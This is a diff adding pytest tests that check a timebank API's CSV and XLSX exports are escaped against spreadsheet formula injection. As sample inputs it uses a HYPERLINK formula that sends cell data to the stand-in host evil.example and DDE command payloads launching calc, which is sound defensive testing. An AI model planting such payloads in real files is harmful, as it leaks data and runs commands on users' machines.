@@ -7,6 +7,8 @@ from __future__ import annotations
 
 import asyncio
 import contextlib
+import csv
+import io
 import json
 import os
 import shutil
@@ -20,6 +22,7 @@ from pathlib import Path
 from typing import Any
 
 import httpx
+import openpyxl
 import pytest
 from litestar import Litestar
 from litestar.testing import AsyncTestClient
@@ -575,3 +578,58 @@ async def test_a_body_that_does_not_arrive_in_time_gets_408_and_writes_nothing(
     async with httpx.AsyncClient(base_url=server.base, timeout=PATIENCE) as c:
         listed = await c.get("/v1/timebanks", headers=bearer(server.secret))
     assert "slow-body" not in [t["slug"] for t in listed.json()["items"]]
+
+
+# --- output consumed by spreadsheets: no formula injection (docs/security.md, API10) --------
+
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+EVIL = '=HYPERLINK("https://evil.example/?"&A1,"Click for details")'
+
+
+async def test_statement_csv_never_starts_a_cell_with_a_formula(api: Api) -> None:
+    tb = await api.timebank()
+    slug = tb["slug"]
+    ann = await api.member(slug, "Ann")
+    mallory = await api.member(slug, "+cmd|' /C calc'!A0")
+    for text_ in (EVIL, "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3"):
+        r = await api.exchange(slug, simple(mallory, ann, 30, description=text_))
+        assert r.status_code == 201, r.text
+    r = await api.get(f"/v1/timebanks/{slug}/members/{ann['id']}/statement?format=csv")
+    assert r.status_code == 200, r.text
+    rows = list(csv.reader(io.StringIO(r.text)))
+    cells = [cell for row in rows[1:] for cell in row]
+    assert not [c for c in cells if c.startswith(FORMULA_STARTS) and not _is_number(c)], rows
+    # the text itself is kept, behind a leading apostrophe (OWASP's advice)
+    assert any(c == "'" + EVIL for c in cells), rows
+    signed = [row[rows[0].index("minutes")] for row in rows[1:]]
+    assert signed == ["-30"] * 3 or all(_is_number(v) for v in signed), signed
+
+
+def _is_number(cell: str) -> bool:
+    try:
+        float(cell)
+    except ValueError:
+        return False
+    return True
+
+
+async def test_report_csv_and_xlsx_never_carry_a_formula(api: Api) -> None:
+    tb = await api.timebank(suppression_threshold=5)
+    slug = tb["slug"]
+    org = await api.organisation(slug, EVIL)
+    members = [await api.member(slug, f"M{i}") for i in range(6)]
+    for m in members:
+        r = await api.exchange(slug, simple(m, org, 60, category="community-events"))
+        assert r.status_code == 201, r.text
+    path = f"/v1/timebanks/{slug}/reports/organisations"
+    as_csv = await api.get(f"{path}?format=csv")
+    assert as_csv.status_code == 200, as_csv.text
+    cells = [c for row in csv.reader(io.StringIO(as_csv.text)) for c in row]
+    assert "'" + EVIL in cells, cells
+    assert not [c for c in cells if c.startswith(FORMULA_STARTS) and not _is_number(c)]
+    as_xlsx = await api.get(f"{path}?format=xlsx")
+    assert as_xlsx.status_code == 200, as_xlsx.text
+    book = openpyxl.load_workbook(io.BytesIO(as_xlsx.content))
+    values = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
+    assert not [c.coordinate for c in values if c.data_type == "f"], "a formula cell"
+    assert EVIL in [c.value for c in values]
